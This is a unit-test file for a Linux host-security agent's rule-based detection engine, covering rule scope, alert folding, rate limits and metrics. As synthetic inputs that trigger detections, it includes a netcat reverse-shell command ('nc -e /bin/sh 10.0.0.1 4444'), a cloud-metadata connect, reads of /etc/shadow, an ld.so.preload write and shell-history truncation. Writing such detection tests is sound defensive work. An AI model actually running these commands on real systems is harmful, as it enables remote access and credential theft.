"""The detection engine (agent/detect/engine.py) on synthetic events, and in the real Pipeline on a
replay source: indexing by kind, scope, folding with its count reported, rate limits, metrics."""

from __future__ import annotations

import textwrap

import yaml

from agent.detect.engine import build
from agent.events import ContainerInfo, Enriched, ExecEvent, FileEvent, NetEvent, Op, ProcInfo
from agent.outputs.metrics import Metrics
from agent.pipeline import Pipeline
from agent.policy import rules
from agent.sensors.replay import ReplayProbes
from agent.vocab import Severity
from tests.unit.replay_records import PID, exec_rec, open_rec
from tests.unit.test_pipeline import Sink, _config, _metric, _run

BOX = ContainerInfo(id="ab" * 32, image="nodewarden.test/box:1")


def _detector(text: str = "", bundled: bool = False, **kw):
    extra = yaml.compose(textwrap.dedent(text), Loader=yaml.SafeLoader) if text else None
    ruleset, errors = rules.load_files([rules.BUNDLED_DIR] if bundled else [], extra=extra)
    assert errors == []
    det, errors = build(rules.DetectSection(ruleset=ruleset, **kw))
    assert errors == []
    return det


def _head(op: Op, comm: str = "sh", pid: int = 4242):
    return dict(op=op, ts_ns=1, pid=pid, tid=pid, ppid=1, uid=0, gid=0, cgroup_id=1, mntns=1, comm=comm,
                truncated=False)


def _exec(path: str, argv: tuple[str, ...], container=None) -> Enriched:
    ev = ExecEvent(**_head(Op.EXEC, comm=path.rsplit("/", 1)[-1][:15]), filename=path, argv=argv)
    return Enriched(ev, ProcInfo(4242, 1, path, argv, 0, 0), None, container)


def _connect(address: str, port: int, container=None, comm: str = "curl") -> Enriched:
    ev = NetEvent(**_head(Op.NET_CONNECT, comm=comm), ret=0, fd=3, family="ipv4", transport="tcp",
                  address=address, port=port, backlog=0)
    return Enriched(ev, ProcInfo(4242, 1, f"/usr/bin/{comm}", (comm,), 0, 0), None, container)


def _open(path: str, flags: int = 0o1101, comm: str = "sh") -> Enriched:
    ev = FileEvent(**_head(Op.FILE_OPEN, comm=comm), path=path, path2="", ret=3, flags=flags, mode=0o644,
                   dirfd=-100, fd=-1, owner_uid=0, owner_gid=0)
    return Enriched(ev, ProcInfo(4242, 1, f"/bin/{comm}", (comm,), 0, 0), None, None)


RULES = """\
- rule: t.exec
  name: Exec of x
  description: x ran
  condition: event.name = process.exec and process.name = x
  severity: high
  tags: [execution, T1059.004]
  output: [process.executable.path, process.command_line]
- rule: t.host
  condition: event.name = process.exec and process.name = x
  severity: low
  scope: host
- rule: t.box
  condition: event.name = process.exec and process.name = x
  severity: low
  scope: container
"""


def test_an_alert_carries_rule_severity_mitre_output_and_its_subject():
    det = _detector(RULES)
    en = _exec("/opt/x", ("x", "-v"))
    alerts = det.evaluate(en)
    assert [a.rule_id for a in alerts] == ["t.exec", "t.host"]
    a = alerts[0]
    assert (a.rule_name, a.description, a.severity, a.tactics, a.techniques) == (
        "Exec of x", "x ran", Severity.HIGH, ("execution",), ("T1059.004",))
    assert a.subject is en and a.count == 1 and a.action == "alert"
    assert a.output == "process.executable.path=/opt/x process.command_line=x -v"


def test_scope_host_and_container():
    det = _detector(RULES)
    assert [a.rule_id for a in det.evaluate(_exec("/opt/x", ("x",), BOX))] == ["t.exec", "t.box"]


def test_an_event_meets_only_the_rules_of_its_kind():
    det = _detector(RULES, bundled=True)
    det.evaluate(_open("/tmp/nothing", flags=0))
    evaluated = set(det.evaluations)
    assert evaluated and not evaluated & {"t.exec", "t.host", "nw.exec_from_writable_dir", "nw.miner_stratum_port"}
    assert "nw.write_below_etc" in evaluated


def test_identical_alerts_fold_and_the_count_is_reported_later():
    det = _detector(RULES, fold_window=60.0)
    first = det.evaluate(_exec("/opt/x", ("x",)))
    assert [a.count for a in first] == [1, 1]
    for _ in range(4):
        assert det.evaluate(_exec("/opt/x", ("x",))) == []
    other = det.evaluate(_exec("/opt/x", ("x", "other")))  # different output fields: its own alert
    assert [a.rule_id for a in other] == ["t.exec"]
    assert det.drops()["detect.folded"] == 4 * 2 + 1  # t.host folds on the executable alone
    assert det.flush() == []  # windows still open
    later = det.flush(force=True)
    assert sorted((a.rule_id, a.count) for a in later) == [("t.exec", 4), ("t.host", 5)]


def test_rate_limit_per_rule_is_counted():
    det = _detector(RULES, fold_window=0.0, rate_limit=1.0)  # a bucket of 5 alerts
    raised = sum(len([a for a in det.evaluate(_exec("/opt/x", ("x", str(i)))) if a.rule_id == "t.exec"])
                 for i in range(20))
    assert raised == 5
    assert det.limited["t.exec"] == 15 and det.drops()["detect.rate_limited"] == 30


def test_cloud_metadata_rule_on_a_synthetic_connect():
    # no traffic to 169.254.169.254 from a test: a real address outside this machine
    det = _detector(bundled=True)
    alerts = det.evaluate(_connect("169.254.169.254", 80, BOX))
    assert [(a.rule_id, a.severity, a.techniques) for a in alerts] == [
        ("nw.cloud_metadata_connect", Severity.HIGH, ("T1552.005",))]
    assert det.evaluate(_connect("169.254.169.254", 80, None)) == []  # scope: containers only
    assert det.evaluate(_connect("10.0.0.1", 80, BOX)) == []


def test_package_manager_rule_in_a_container_only():
    det = _detector(bundled=True)
    alerts = det.evaluate(_exec("/usr/bin/apt-get", ("apt-get", "install", "-y", "nmap"), BOX))
    assert [(a.rule_id, a.severity, a.techniques) for a in alerts] == [
        ("nw.package_manager_in_container", Severity.MEDIUM, ("T1072",))]
    assert det.evaluate(_exec("/usr/bin/apt-get", ("apt-get", "install", "-y", "nmap"))) == []


def test_history_truncation_by_flags_and_bash_own_rewrite_is_quiet():
    det = _detector(bundled=True)
    assert [a.rule_id for a in det.evaluate(_open("/root/.bash_history", flags=0o1101))] == ["nw.clear_shell_history"]
    assert det.evaluate(_open("/root/.bash_history", flags=0o2001)) == []  # O_APPEND: bash adding a line


def test_null_detector_when_disabled():
    det, errors = build(rules.DetectSection(enabled=False))
    assert errors == [] and not det.enabled
    assert det.evaluate(_exec("/tmp/x", ("x",))) == [] and det.drops() == {}


def _pipeline(batches, detector):
    sink = Sink()
    p = Pipeline(_config(), [sink], metrics=Metrics(), probes=ReplayProbes(batches), detector=detector)
    return p, sink


def test_pipeline_alerts_follow_their_event_fold_and_reach_metrics():
    det = _detector(bundled=True)
    batches = [[exec_rec("/dev/shm/dropper", ["/dev/shm/dropper", "-x"], comm=b"dropper")] * 3,  # host: /dev/shm
               [open_rec("/etc/ld.so.preload", comm=b"dropper")]]
    p, sink = _pipeline(batches, det)
    _run(p)
    names = [(r["event.name"], r.get("rule.id")) for r in sink.records if not r["event.name"].startswith("agent.")]
    assert names[:2] == [("process.exec", None), ("alert", "nw.exec_from_writable_dir")]
    alerts = [r for r in sink.records if r["event.name"] == "alert"]
    assert [(r["rule.id"], r.get("alert.count", 1)) for r in alerts] == [
        ("nw.exec_from_writable_dir", 1), ("nw.write_below_etc", 1), ("nw.exec_from_writable_dir", 2)]
    a = alerts[0]
    assert (a["event.severity"], a["trigger.name"], a["process.pid"], a["threat.technique.id"]) == (
        "high", "process.exec", PID, ["T1059", "T1036"])
    assert _metric(p, "nodewarden_drops_total")[(("stage", "detect.folded"),)] == 2
    assert _metric(p, "nodewarden_alerts_total")[(("rule", "nw.exec_from_writable_dir"), ("severity", "high"))] == 2
    assert _metric(p, "nodewarden_rule_evaluations_total")[(("rule", "nw.exec_from_writable_dir"),)] == 3


def test_pipeline_swaps_detectors_and_reports_the_old_ones_folds():
    det = _detector(RULES)
    p, sink = _pipeline([], det)
    p.start()
    det.evaluate(_exec("/opt/x", ("x",)))
    det.evaluate(_exec("/opt/x", ("x",)))
    p.set_detector(_detector(bundled=True))
    p.stop()
    folded = [r for r in sink.records if r["event.name"] == "alert"]
    # count: the alerts folded into this one (the sum over the records is every occurrence)
    assert sorted((r["rule.id"], r.get("alert.count", 1)) for r in folded) == [("t.exec", 1), ("t.host", 1)]
    assert _metric(p, "nodewarden_drops_total")[(("stage", "detect.folded"),)] == 2


def test_a_rule_that_raises_is_no_match_and_the_others_still_run():
    det = _detector("""\
        - rule: t.path
          condition: event.name = file.open and file.path startswith /etc/
          severity: low
        - rule: t.name
          condition: event.name = file.open and process.name = sh
          severity: low
        """)
    ev = FileEvent(**_head(Op.FILE_OPEN), path=None, path2="", ret=3, flags=1, mode=0, dirfd=-100, fd=-1,
                   owner_uid=0, owner_gid=0)  # a path the sensor could not give: startswith raises
    alerts = det.evaluate(Enriched(ev, None, None, None))
    assert [a.rule_id for a in alerts] == ["t.name"]


def test_a_batch_is_judged_as_its_events_one_by_one():
    """evaluate_batch (the pipeline's way: conditions grouped by kind, state in event order) raises
    the same alerts, folded the same way, as evaluate() on each event in turn."""
    from tests.unit import detect_events as de

    events = []
    for k in range(6):
        events += [de.open_en(f"/etc/cron.d/job{k % 2}", flags=0o1101, comm=b"sh"),
                   de.exec_en("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
                   de.open_en("/var/lib/app/data.log", flags=0o2101),
                   de.connect_en("169.254.169.254", 80),
                   de.open_en("/etc/shadow", comm=b"cat"),
                   de.exec_en("/bin/ls", ["ls", "-l"], container=None)]
    one, batch = build(None)[0], build(None)[0]
    want = [(i, [(a.rule_id, a.count) for a in alerts]) for i, en in enumerate(events) if (alerts := one.evaluate(en))]
    got = [(i, [(a.rule_id, a.count) for a in alerts]) for i, alerts in batch.evaluate_batch(events)]
    assert want and got == want
    assert one.evaluations == batch.evaluations
    folds = [[(a.rule_id, a.count) for a in d.flush(force=True)] for d in (one, batch)]
    assert folds[0] == folds[1]
